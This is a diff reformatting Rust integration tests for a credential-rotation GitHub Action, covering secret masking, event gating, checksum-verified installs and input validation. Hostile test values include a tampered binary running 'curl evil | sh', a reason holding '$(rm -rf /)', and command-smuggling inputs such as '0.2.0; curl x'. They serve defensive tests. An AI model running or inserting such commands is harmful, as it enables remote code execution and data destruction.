@@ -37,10 +37,7 @@ credentials:
 "#;
 
 fn fixture(name: &str) -> Value {
-    let path = format!(
-        "{}/tests/support/events/{name}.json",
-        env!("CARGO_MANIFEST_DIR")
-    );
+    let path = format!("{}/tests/support/events/{name}.json", env!("CARGO_MANIFEST_DIR"));
     let mut v: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
     v["repository"]["full_name"] = HOME.into();
     v["repository"]["name"] = "ops".into();
@@ -135,19 +132,14 @@ fn parse_outputs(text: &str) -> BTreeMap<String, String> {
 /// a mask command, and appears nowhere else.
 fn masked_first(log: &str, what: &str, secret: &str) {
     let lines: Vec<&str> = log.lines().collect();
-    let first_other = lines
-        .iter()
-        .position(|l| !l.starts_with("::add-mask::"))
-        .unwrap_or(lines.len());
+    let first_other =
+        lines.iter().position(|l| !l.starts_with("::add-mask::")).unwrap_or(lines.len());
     for part in secret.lines().map(str::trim).filter(|l| l.len() >= 4) {
         let announced = lines
             .iter()
             .position(|l| *l == format!("::add-mask::{part}"))
             .unwrap_or_else(|| panic!("{what}: a line is never masked\n{log}"));
-        assert!(
-            announced < first_other,
-            "{what}: masked only after other output\n{log}"
-        );
+        assert!(announced < first_other, "{what}: masked only after other output\n{log}");
         masked_before_use(log, what, part);
     }
 }
@@ -159,29 +151,19 @@ fn masked_before_use(log: &str, what: &str, part: &str) {
         if line == format!("::add-mask::{part}") {
             seen_mask = true;
         } else if line.contains(part) {
-            assert!(
-                line.starts_with("::add-mask::") && seen_mask,
-                "{what} printed: {line}"
-            );
+            assert!(line.starts_with("::add-mask::") && seen_mask, "{what} printed: {line}");
         }
     }
     assert!(seen_mask, "{what}: never masked\n{log}");
 }
 
 fn kids(fake: &FakeGitHub) -> Vec<String> {
-    let text = fake
-        .file("acme/site", "main", "public/jwks.json")
-        .unwrap_or_default();
+    let text = fake.file("acme/site", "main", "public/jwks.json").unwrap_or_default();
     if text.is_empty() {
         return Vec::new();
     }
     let doc: Value = serde_json::from_str(&text).unwrap();
-    doc["keys"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|k| k["kid"].as_str().unwrap().to_string())
-        .collect()
+    doc["keys"].as_array().unwrap().iter().map(|k| k["kid"].as_str().unwrap().to_string()).collect()
 }
 
 async fn world() -> (FakeGitHub, Ws) {
@@ -207,15 +189,7 @@ async fn a_job_masks_first_reports_and_follows_its_event() {
     let (fake, ws) = world().await;
 
     // A scheduled run issues the first key.
-    let first = job(
-        &ws,
-        &fake,
-        "schedule",
-        "refs/heads/main",
-        &json!({}),
-        &["run"],
-    )
-    .await;
+    let first = job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["run"]).await;
     assert_eq!(first.code, 0, "{}", first.log);
     masked_first(&first.log, "the state identity", &ws.identity);
     masked_first(&first.log, "the GitHub App key", &fake.app_key_pem);
@@ -235,9 +209,7 @@ async fn a_job_masks_first_reports_and_follows_its_event() {
     // The summary: version, owner, outcome, when the next rotation is due, and where
     // the run's encrypted state is.
     assert!(
-        first
-            .summary
-            .contains(&format!("### rotagate {} run", env!("CARGO_PKG_VERSION")))
+        first.summary.contains(&format!("### rotagate {} run", env!("CARGO_PKG_VERSION")))
             && first
                 .summary
                 .contains("| api-signing | @acme/platform | ✅ completed | completed |")
@@ -257,10 +229,7 @@ async fn a_job_masks_first_reports_and_follows_its_event() {
     // log and in outputs (the runner drops an output holding a masked value).
     for public in [kid1.as_str(), "SIGNING_KID", "main", "true"] {
         assert!(
-            !first
-                .log
-                .lines()
-                .any(|l| l == format!("::add-mask::{public}")),
+            !first.log.lines().any(|l| l == format!("::add-mask::{public}")),
             "{public} was masked: {}",
             first.log
         );
@@ -277,11 +246,7 @@ async fn a_job_masks_first_reports_and_follows_its_event() {
     )
     .await;
     assert_eq!(incident.code, 0, "{}", incident.log);
-    assert!(
-        incident
-            .log
-            .contains("workflow_dispatch: rotating api-signing: key seen in a log")
-    );
+    assert!(incident.log.contains("workflow_dispatch: rotating api-signing: key seen in a log"));
     assert_eq!(incident.outputs["rotated"], "");
     assert_eq!(incident.outputs["awaiting-approval"], "api-signing");
     let pr: Pull = fake.pulls(HOME).last().unwrap().clone();
@@ -293,22 +258,12 @@ async fn a_job_masks_first_reports_and_follows_its_event() {
     );
     // The gate's manual steps, rendered, are listed as pending.
     assert!(
-        incident
-            .summary
-            .contains(&format!("| Tell the partners kid {kid1} is retired |")),
+        incident.summary.contains(&format!("| Tell the partners kid {kid1} is retired |")),
         "{}",
         incident.summary
     );
     // `audit` too: the events, the rotation's start among them.
-    let audit = job(
-        &ws,
-        &fake,
-        "schedule",
-        "refs/heads/main",
-        &json!({}),
-        &["audit"],
-    )
-    .await;
+    let audit = job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["audit"]).await;
     assert_eq!(audit.code, 0, "{}", audit.log);
     assert!(
         audit.summary.contains(" audit\n") && audit.summary.contains("| api-signing |"),
@@ -316,21 +271,11 @@ async fn a_job_masks_first_reports_and_follows_its_event() {
         audit.summary
     );
     // `status` under Actions writes its own summary: owner, kid, stage, the gate.
-    let status = job(
-        &ws,
-        &fake,
-        "schedule",
-        "refs/heads/main",
-        &json!({}),
-        &["status"],
-    )
-    .await;
+    let status = job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["status"]).await;
     assert_eq!(status.code, 0, "{}", status.log);
     assert!(
-        status.summary.contains(&format!(
-            "### rotagate {} status",
-            env!("CARGO_PKG_VERSION")
-        )) && status.summary.contains("| api-signing | @acme/platform |")
+        status.summary.contains(&format!("### rotagate {} status", env!("CARGO_PKG_VERSION")))
+            && status.summary.contains("| api-signing | @acme/platform |")
             && status.summary.contains("retire: waiting"),
         "{}",
         status.summary
@@ -338,30 +283,14 @@ async fn a_job_masks_first_reports_and_follows_its_event() {
     let kid2 = fake.secret("acme/api", "SIGNING_KID").unwrap();
     assert_ne!(kid1, kid2);
     let audit = ws.gh(&fake, HOME, &["audit", "api-signing"]).await;
-    assert!(
-        audit.stdout.contains("key seen in a log"),
-        "{}",
-        audit.all()
-    );
+    assert!(audit.stdout.contains("key seen in a log"), "{}", audit.all());
 
     // A push to another branch, and a pull request, change nothing.
     let generation = fake.branch_head(HOME, "rotagate-state");
     for (event_name, git_ref, event) in [
-        (
-            "push",
-            "refs/heads/feature".to_string(),
-            push("feature", &[]),
-        ),
-        (
-            "pull_request",
-            format!("refs/pull/{}/merge", pr.number),
-            fixture("push"),
-        ),
-        (
-            "pull_request_target",
-            "refs/heads/main".to_string(),
-            fixture("push"),
-        ),
+        ("push", "refs/heads/feature".to_string(), push("feature", &[])),
+        ("pull_request", format!("refs/pull/{}/merge", pr.number), fixture("push")),
+        ("pull_request_target", "refs/heads/main".to_string(), fixture("push")),
     ] {
         let refused = job(&ws, &fake, event_name, &git_ref, &event, &["run"]).await;
         assert_eq!(refused.code, 2, "{event_name}: {}", refused.log);
@@ -394,20 +323,11 @@ async fn a_job_masks_first_reports_and_follows_its_event() {
     fake.approve(HOME, pr.number, "alice");
     fake.merge(HOME, pr.number, "bob");
     let approval = ".rotagate/approvals/api-signing/retire.yaml";
-    let merged = job(
-        &ws,
-        &fake,
-        "push",
-        "refs/heads/main",
-        &push("main", &[approval]),
-        &["run"],
-    )
-    .await;
+    let merged =
+        job(&ws, &fake, "push", "refs/heads/main", &push("main", &[approval]), &["run"]).await;
     assert_eq!(merged.code, 0, "{}", merged.log);
     assert!(
-        merged
-            .log
-            .contains("push merged approval files: running api-signing"),
+        merged.log.contains("push merged approval files: running api-signing"),
         "{}",
         merged.log
     );
@@ -415,15 +335,8 @@ async fn a_job_masks_first_reports_and_follows_its_event() {
     assert_eq!(kids(&fake), vec![kid2.clone()]);
 
     // The matrix lists credentials with work: none now.
-    let plan = job(
-        &ws,
-        &fake,
-        "schedule",
-        "refs/heads/main",
-        &json!({}),
-        &["plan", "--matrix"],
-    )
-    .await;
+    let plan =
+        job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["plan", "--matrix"]).await;
     assert_eq!(plan.code, 0, "{}", plan.log);
     assert_eq!(plan.outputs["matrix"], r#"{"include":[]}"#);
     assert!(
@@ -437,21 +350,9 @@ async fn a_job_masks_first_reports_and_follows_its_event() {
 async fn config_errors_are_annotations_on_their_line() {
     let (fake, ws) = world().await;
     ws.config(&CONFIG.replace("drain: 0s", "drain: soon"));
-    let bad = job(
-        &ws,
-        &fake,
-        "schedule",
-        "refs/heads/main",
-        &json!({}),
-        &["run"],
-    )
-    .await;
+    let bad = job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["run"]).await;
     assert_eq!(bad.code, 2, "{}", bad.log);
-    let line = CONFIG
-        .lines()
-        .position(|l| l.contains("drain: 0s"))
-        .unwrap()
-        + 1;
+    let line = CONFIG.lines().position(|l| l.contains("drain: 0s")).unwrap() + 1;
     assert!(
         bad.log.contains(&format!(
             "::error file=rotagate.yaml,line={line},col=12,title=rotagate.yaml::"
@@ -479,33 +380,17 @@ async fn an_incident_without_a_reason_is_refused() {
     )
     .await;
     assert_eq!(run.code, 2, "{}", run.log);
-    assert!(
-        run.log.contains("needs one (the `reason` input)"),
-        "{}",
-        run.log
-    );
-    assert!(
-        fake.branch_head(HOME, "rotagate-state").is_none(),
-        "nothing was written"
-    );
+    assert!(run.log.contains("needs one (the `reason` input)"), "{}", run.log);
+    assert!(fake.branch_head(HOME, "rotagate-state").is_none(), "nothing was written");
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn secrets_are_masked_before_even_a_config_warning() {
     let (fake, ws) = world().await;
-    ws.config(&CONFIG.replace(
-        "    gate: { pull_request: { approvals: 1 } }\n",
-        "    gate: none\n",
-    ));
-    let run = job(
-        &ws,
-        &fake,
-        "schedule",
-        "refs/heads/main",
-        &json!({}),
-        &["run"],
-    )
-    .await;
+    ws.config(
+        &CONFIG.replace("    gate: { pull_request: { approvals: 1 } }\n", "    gate: none\n"),
+    );
+    let run = job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["run"]).await;
     assert_eq!(run.code, 0, "{}", run.log);
     assert!(
         run.log.contains("::warning title=rotagate::")
@@ -529,11 +414,8 @@ impl ActionDir {
         let root = tempfile::tempdir().unwrap();
         let action = root.path().join("_actions/rotagate/rotagate/v1");
         std::fs::create_dir_all(action.join("sums")).unwrap();
-        std::fs::copy(
-            concat!(env!("CARGO_MANIFEST_DIR"), "/action.sh"),
-            action.join("action.sh"),
-        )
-        .unwrap();
+        std::fs::copy(concat!(env!("CARGO_MANIFEST_DIR"), "/action.sh"), action.join("action.sh"))
+            .unwrap();
         for (version, text) in sums {
             std::fs::write(action.join("sums").join(version), text).unwrap();
         }
@@ -607,23 +489,14 @@ impl ActionDir {
 
 fn sha256_hex(bytes: &[u8]) -> String {
     use sha2::Digest;
-    sha2::Sha256::digest(bytes)
-        .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect()
+    sha2::Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
 }
 
 #[test]
 fn the_action_installs_only_a_binary_whose_checksum_is_committed() {
     let binary = b"#!/bin/sh\necho rotagate 0.2.0\n";
-    let sums = format!(
-        "{}  rotagate-x86_64-unknown-linux-gnu\n",
-        sha256_hex(binary)
-    );
-    let older = format!(
-        "{}  rotagate-x86_64-unknown-linux-gnu\n",
-        sha256_hex(b"old")
-    );
+    let sums = format!("{}  rotagate-x86_64-unknown-linux-gnu\n", sha256_hex(binary));
+    let older = format!("{}  rotagate-x86_64-unknown-linux-gnu\n", sha256_hex(b"old"));
 
     let good = ActionDir::new(&[("0.1.0", &older), ("0.2.0", &sums)], binary);
     let (code, log, outputs) = good.run("install", &[]);
@@ -651,11 +524,7 @@ fn the_action_installs_only_a_binary_whose_checksum_is_committed() {
     assert_eq!(code, 0, "{log}");
     assert!(log.contains("from this run's cache") && outputs.contains("downloaded=false"));
     assert!(!good.root.path().join("curl-args").exists(), "no download");
-    std::fs::write(
-        good.root.path().join("temp/rotagate-cache/rotagate"),
-        b"poisoned",
-    )
-    .unwrap();
+    std::fs::write(good.root.path().join("temp/rotagate-cache/rotagate"), b"poisoned").unwrap();
     let (code, log, outputs) = good.run("install", &[]);
     assert_eq!(code, 0, "{log}");
     assert!(outputs.contains("downloaded=true"), "{outputs}");
@@ -664,22 +533,13 @@ fn the_action_installs_only_a_binary_whose_checksum_is_committed() {
     let tampered = ActionDir::new(&[("0.2.0", &sums)], b"#!/bin/sh\ncurl evil | sh\n");
     let (code, log, outputs) = tampered.run("install", &[]);
     assert_eq!(code, 1, "{log}");
-    assert!(
-        log.contains("checksum mismatch for rotagate-x86_64-unknown-linux-gnu 0.2.0"),
-        "{log}"
-    );
-    assert!(
-        !outputs.contains("installed="),
-        "no fallback to a build: {outputs}"
-    );
+    assert!(log.contains("checksum mismatch for rotagate-x86_64-unknown-linux-gnu 0.2.0"), "{log}");
+    assert!(!outputs.contains("installed="), "no fallback to a build: {outputs}");
     assert!(tampered.installed().is_none());
 
     let (code, log, _) = good.run("install", &[("INPUT_VERSION", "0.3.0")]);
     assert_eq!(code, 1);
-    assert!(
-        log.contains("version 0.3.0 is not listed") && log.contains("0.1.0 0.2.0"),
-        "{log}"
-    );
+    assert!(log.contains("version 0.3.0 is not listed") && log.contains("0.1.0 0.2.0"), "{log}");
     let (code, log, _) = good.run("install", &[("INPUT_VERSION", "0.2.0; curl x")]);
     assert_eq!(code, 1);
     assert!(log.contains("not a version number"), "{log}");
@@ -693,14 +553,8 @@ fn the_action_installs_only_a_binary_whose_checksum_is_committed() {
         "{curl_args}"
     );
     // Without a version: the newest release, which sorts after its pre-releases.
-    let release = ActionDir::new(
-        &[
-            ("1.0.0-beta.2", &older),
-            ("1.0.0", &sums),
-            ("0.9.0", &older),
-        ],
-        binary,
-    );
+    let release =
+        ActionDir::new(&[("1.0.0-beta.2", &older), ("1.0.0", &sums), ("0.9.0", &older)], binary);
     let (code, log, _) = release.run("install", &[]);
     assert_eq!(code, 0, "{log}");
     assert!(log.contains("rotagate 1.0.0 ("), "{log}");
@@ -715,16 +569,10 @@ fn the_action_installs_only_a_binary_whose_checksum_is_committed() {
     let musl = ActionDir::new(&[("1.1.0", &both)], binary);
     let (code, log, _) = musl.run("install", &[]);
     assert_eq!(code, 0, "{log}");
-    assert!(
-        log.contains("(rotagate-x86_64-unknown-linux-musl, sha256"),
-        "{log}"
-    );
+    assert!(log.contains("(rotagate-x86_64-unknown-linux-musl, sha256"), "{log}");
     let (code, log, _) = musl.run("install", &[("RUNNER_OS", "macOS")]);
     assert_eq!(code, 0, "{log}");
-    assert!(
-        log.contains("(rotagate-x86_64-apple-darwin, sha256"),
-        "{log}"
-    );
+    assert!(log.contains("(rotagate-x86_64-apple-darwin, sha256"), "{log}");
     let arm = format!(
         "{}  rotagate-aarch64-unknown-linux-gnu\n{}  rotagate-aarch64-unknown-linux-musl\n",
         sha256_hex(b"gnu"),
@@ -733,10 +581,7 @@ fn the_action_installs_only_a_binary_whose_checksum_is_committed() {
     let arm = ActionDir::new(&[("1.1.0", &arm)], binary);
     let (code, log, _) = arm.run("install", &[("RUNNER_ARCH", "ARM64")]);
     assert_eq!(code, 0, "{log}");
-    assert!(
-        log.contains("(rotagate-aarch64-unknown-linux-musl, sha256"),
-        "{log}"
-    );
+    assert!(log.contains("(rotagate-aarch64-unknown-linux-musl, sha256"), "{log}");
 
     // A runner without a release binary, or no release at all, fails: nothing is ever
     // compiled in the job that holds the secrets; the message says what to do.
@@ -759,29 +604,16 @@ fn the_action_installs_only_a_binary_whose_checksum_is_committed() {
     let built = unreleased.root.path().join("built-rotagate");
     std::fs::write(&built, binary).unwrap();
     let given = built.to_str().unwrap();
-    let (code, log, outputs) = unreleased.run(
-        "install",
-        &[
-            ("INPUT_BINARY", given),
-            ("INPUT_BINARY_SHA256", &sha256_hex(binary)),
-        ],
-    );
+    let (code, log, outputs) = unreleased
+        .run("install", &[("INPUT_BINARY", given), ("INPUT_BINARY_SHA256", &sha256_hex(binary))]);
     assert_eq!(code, 0, "{log}");
     assert!(outputs.contains("installed=true"), "{outputs}");
     assert_eq!(unreleased.installed().as_deref(), Some(&binary[..]));
     let other = ActionDir::new(&[], b"");
-    let (code, log, _) = other.run(
-        "install",
-        &[
-            ("INPUT_BINARY", given),
-            ("INPUT_BINARY_SHA256", &sha256_hex(b"other")),
-        ],
-    );
+    let (code, log, _) = other
+        .run("install", &[("INPUT_BINARY", given), ("INPUT_BINARY_SHA256", &sha256_hex(b"other"))]);
     assert_eq!(code, 1);
-    assert!(
-        log.contains("checksum mismatch for the binary input"),
-        "{log}"
-    );
+    assert!(log.contains("checksum mismatch for the binary input"), "{log}");
     assert!(other.installed().is_none());
     let (code, log, _) = other.run("install", &[("INPUT_BINARY", given)]);
     assert_eq!(code, 1);
@@ -797,10 +629,7 @@ async fn fake_release(pki: &crate::support::tls::Pki, asset: Vec<u8>) -> String 
         .route(
             "/rotagate/rotagate/releases/download/v0.2.0/rotagate-x86_64-unknown-linux-gnu",
             get(|| async {
-                (
-                    axum::http::StatusCode::FOUND,
-                    [("location", "/objects/release-asset-41")],
-                )
+                (axum::http::StatusCode::FOUND, [("location", "/objects/release-asset-41")])
                     .into_response()
             }),
         )
@@ -811,10 +640,7 @@ async fn fake_release(pki: &crate::support::tls::Pki, asset: Vec<u8>) -> String 
                 async move { asset }
             }),
         );
-    format!(
-        "https://127.0.0.1:{}",
-        crate::support::tls::serve_https(app, pki).await.port()
-    )
+    format!("https://127.0.0.1:{}", crate::support::tls::serve_https(app, pki).await.port())
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -824,19 +650,13 @@ async fn the_action_downloads_a_release_over_https_with_real_curl_and_verifies_i
     std::fs::write(ca.path(), &pki.ca_pem).unwrap();
     let ca_path = ca.path().to_str().unwrap().to_string();
     let binary = b"#!/bin/sh\necho rotagate 0.2.0\n".to_vec();
-    let sums = format!(
-        "{}  rotagate-x86_64-unknown-linux-gnu\n",
-        sha256_hex(&binary)
-    );
+    let sums = format!("{}  rotagate-x86_64-unknown-linux-gnu\n", sha256_hex(&binary));
 
     // The release serves the listed bytes: followed through the redirect, verified,
     // installed.
     let server = fake_release(&pki, binary.clone()).await;
     let good = ActionDir::new(&[("0.2.0", &sums)], b"").with_real_curl();
-    let env = [
-        ("GITHUB_SERVER_URL", server.as_str()),
-        ("CURL_CA_BUNDLE", ca_path.as_str()),
-    ];
+    let env = [("GITHUB_SERVER_URL", server.as_str()), ("CURL_CA_BUNDLE", ca_path.as_str())];
     let (code, log, outputs) = tokio::task::block_in_place(|| good.run("install", &env));
     assert_eq!(code, 0, "{log}");
     assert!(outputs.contains("installed=true"), "{outputs}");
@@ -845,10 +665,7 @@ async fn the_action_downloads_a_release_over_https_with_real_curl_and_verifies_i
     // A release whose asset differs from sums/: refused, nothing installed.
     let tampered = fake_release(&pki, b"#!/bin/sh\ncurl evil | sh\n".to_vec()).await;
     let bad = ActionDir::new(&[("0.2.0", &sums)], b"").with_real_curl();
-    let env = [
-        ("GITHUB_SERVER_URL", tampered.as_str()),
-        ("CURL_CA_BUNDLE", ca_path.as_str()),
-    ];
+    let env = [("GITHUB_SERVER_URL", tampered.as_str()), ("CURL_CA_BUNDLE", ca_path.as_str())];
     let (code, log, _) = tokio::task::block_in_place(|| bad.run("install", &env));
     assert_eq!(code, 1, "{log}");
     assert!(log.contains("checksum mismatch"), "{log}");
@@ -859,10 +676,7 @@ async fn the_action_downloads_a_release_over_https_with_real_curl_and_verifies_i
     let (code, log, _) = tokio::task::block_in_place(|| {
         missing.run(
             "install",
-            &[
-                ("GITHUB_SERVER_URL", &format!("{server}/elsewhere")),
-                ("CURL_CA_BUNDLE", &ca_path),
-            ],
+            &[("GITHUB_SERVER_URL", &format!("{server}/elsewhere")), ("CURL_CA_BUNDLE", &ca_path)],
         )
     });
     assert_eq!(code, 1, "{log}");
@@ -889,54 +703,27 @@ fn the_action_validates_its_inputs_and_passes_them_as_environment() {
         ],
     );
     assert_eq!(code, 0, "{log}");
-    assert!(
-        log.contains("args: rotate api-signing --emergency"),
-        "{log}"
-    );
-    assert!(
-        log.contains("reason: leaked; $(rm -rf /)"),
-        "passed as data: {log}"
-    );
-    assert!(
-        log.contains("identity set: yes") && log.contains("inputs left: 0"),
-        "{log}"
-    );
+    assert!(log.contains("args: rotate api-signing --emergency"), "{log}");
+    assert!(log.contains("reason: leaked; $(rm -rf /)"), "passed as data: {log}");
+    assert!(log.contains("identity set: yes") && log.contains("inputs left: 0"), "{log}");
     assert!(!log.contains(identity), "{log}");
     assert!(outputs.contains("state-copy=") && outputs.contains("artifact=rotagate-state-"));
 
     let (code, log, _) = action.run("run", &[("INPUT_ONLY", "a,b"), ("INPUT_COMMAND", "run")]);
     assert_eq!(code, 0, "{log}");
-    assert!(
-        log.contains("args: run") && log.contains("only: a,b"),
-        "{log}"
-    );
+    assert!(log.contains("args: run") && log.contains("only: a,b"), "{log}");
     let (code, log, _) = action.run("run", &[("INPUT_COMMAND", "matrix")]);
     assert_eq!(code, 0);
     assert!(log.contains("args: plan --matrix"), "{log}");
 
     for (env, expected) in [
-        (
-            vec![("INPUT_COMMAND", "rm")],
-            "input command must be one of",
-        ),
+        (vec![("INPUT_COMMAND", "rm")], "input command must be one of"),
         (vec![("INPUT_ONLY", "api;reboot")], "is not a credential id"),
-        (
-            vec![("INPUT_COMMAND", "rotate"), ("INPUT_ONLY", "api")],
-            "needs input reason",
-        ),
-        (
-            vec![("INPUT_COMMAND", "rollback"), ("INPUT_ONLY", "a,b")],
-            "exactly one credential id",
-        ),
+        (vec![("INPUT_COMMAND", "rotate"), ("INPUT_ONLY", "api")], "needs input reason"),
+        (vec![("INPUT_COMMAND", "rollback"), ("INPUT_ONLY", "a,b")], "exactly one credential id"),
         (vec![("INPUT_EMERGENCY", "yes")], "must be true or false"),
-        (
-            vec![("INPUT_AGE_IDENTITY", "not-a-key")],
-            "holds no AGE-SECRET-KEY-1",
-        ),
-        (
-            vec![("INPUT_REASON", "two\nlines")],
-            "input reason must be one line",
-        ),
+        (vec![("INPUT_AGE_IDENTITY", "not-a-key")], "holds no AGE-SECRET-KEY-1"),
+        (vec![("INPUT_REASON", "two\nlines")], "input reason must be one line"),
     ] {
         let (code, log, _) = action.run("run", &env);
         assert_eq!(code, 1, "{env:?}: {log}");
@@ -953,19 +740,14 @@ fn the_action_and_every_workflow_keep_to_the_rules() {
     for dir in ["workflows", ".github/workflows"] {
         for entry in std::fs::read_dir(format!("{root}/{dir}")).unwrap() {
             let path = entry.unwrap().path();
-            files.push((
-                path.display().to_string(),
-                std::fs::read_to_string(&path).unwrap(),
-            ));
+            files.push((path.display().to_string(), std::fs::read_to_string(&path).unwrap()));
         }
     }
     let pinned = is_pinned();
     for (name, text) in &files {
         let doc: serde_yaml::Value = serde_yaml::from_str(text).unwrap();
         for line in text.lines().map(str::trim) {
-            let Some(uses) = line
-                .strip_prefix("uses: ")
-                .or_else(|| line.strip_prefix("- uses: "))
+            let Some(uses) = line.strip_prefix("uses: ").or_else(|| line.strip_prefix("- uses: "))
             else {
                 continue;
             };
@@ -979,10 +761,7 @@ fn the_action_and_every_workflow_keep_to_the_rules() {
         }
         // Inputs reach scripts through env:, never as expressions inside run:.
         for run in runs(&doc) {
-            assert!(
-                !run.contains("${{"),
-                "{name}: an expression inside run: {run}"
-            );
+            assert!(!run.contains("${{"), "{name}: an expression inside run: {run}");
         }
         if name.contains("workflows/rotate-") {
             let jobs = doc["jobs"].as_mapping().unwrap();
@@ -991,26 +770,16 @@ fn the_action_and_every_workflow_keep_to_the_rules() {
                 // environment; any other job (a build) sees neither.
                 let job_text = serde_yaml::to_string(job).unwrap();
                 if job_text.contains("rotagate/rotagate@") {
-                    assert_eq!(
-                        job["environment"].as_str(),
-                        Some("rotation"),
-                        "{name}: job {id:?}"
-                    );
+                    assert_eq!(job["environment"].as_str(), Some("rotation"), "{name}: job {id:?}");
                 } else {
                     assert!(
                         job.get("environment").is_none() && !job_text.contains("secrets."),
                         "{name}: job {id:?} does not run rotagate, so it gets no secrets"
                     );
                 }
-                assert!(
-                    job["permissions"].is_mapping(),
-                    "{name}: job {id:?} sets no permissions"
-                );
+                assert!(job["permissions"].is_mapping(), "{name}: job {id:?} sets no permissions");
             }
-            assert!(
-                doc["concurrency"]["group"].is_string(),
-                "{name}: no concurrency group"
-            );
+            assert!(doc["concurrency"]["group"].is_string(), "{name}: no concurrency group");
             let on = &doc["on"];
             assert!(
                 on.get("pull_request").is_none() && on.get("pull_request_target").is_none(),
@@ -1031,9 +800,7 @@ fn is_pinned() -> impl Fn(&str) -> bool {
         };
         action.split('/').count() >= 2
             && sha.len() == 40
-            && sha
-                .chars()
-                .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
+            && sha.chars().all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
             && !comment.trim().is_empty()
     }
 }
@@ -1072,15 +839,8 @@ async fn matrix_jobs_run_side_by_side_without_losing_each_others_writes() {
         ));
     }
     ws.config(&config);
-    let plan = job(
-        &ws,
-        &fake,
-        "schedule",
-        "refs/heads/main",
-        &json!({}),
-        &["plan", "--matrix"],
-    )
-    .await;
+    let plan =
+        job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["plan", "--matrix"]).await;
     assert_eq!(plan.code, 0, "{}", plan.log);
     let matrix: Value = serde_json::from_str(&plan.outputs["matrix"]).unwrap();
     let listed: Vec<&str> = matrix["include"]
@@ -1094,30 +854,15 @@ async fn matrix_jobs_run_side_by_side_without_losing_each_others_writes() {
     // One job per entry, all at once, as the matrix runs them.
     let schedule = json!({});
     let args: Vec<[&str; 3]> = ids.iter().map(|id| ["run", "--only", id]).collect();
-    let jobs = args
-        .iter()
-        .map(|a| job(&ws, &fake, "schedule", "refs/heads/main", &schedule, a));
+    let jobs = args.iter().map(|a| job(&ws, &fake, "schedule", "refs/heads/main", &schedule, a));
     let done = futures::future::join_all(jobs).await;
     for (id, j) in ids.iter().zip(&done) {
         assert_eq!(j.code, 0, "{id}: {}", j.log);
         assert_eq!(j.outputs["rotated"], *id);
-        assert!(
-            fake.secret("acme/api", &format!("{}_TOKEN", id.to_uppercase()))
-                .is_some()
-        );
+        assert!(fake.secret("acme/api", &format!("{}_TOKEN", id.to_uppercase())).is_some());
     }
     let status = ws.gh(&fake, HOME, &["status", "--json"]).await;
     let rows: Value = serde_json::from_str(&status.stdout).unwrap();
-    let with_material = rows
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter(|r| r["kid"].is_string())
-        .count();
-    assert_eq!(
-        with_material,
-        ids.len(),
-        "every job's write survived: {}",
-        status.stdout
-    );
+    let with_material = rows.as_array().unwrap().iter().filter(|r| r["kid"].is_string()).count();
+    assert_eq!(with_material, ids.len(), "every job's write survived: {}", status.stdout);
 }
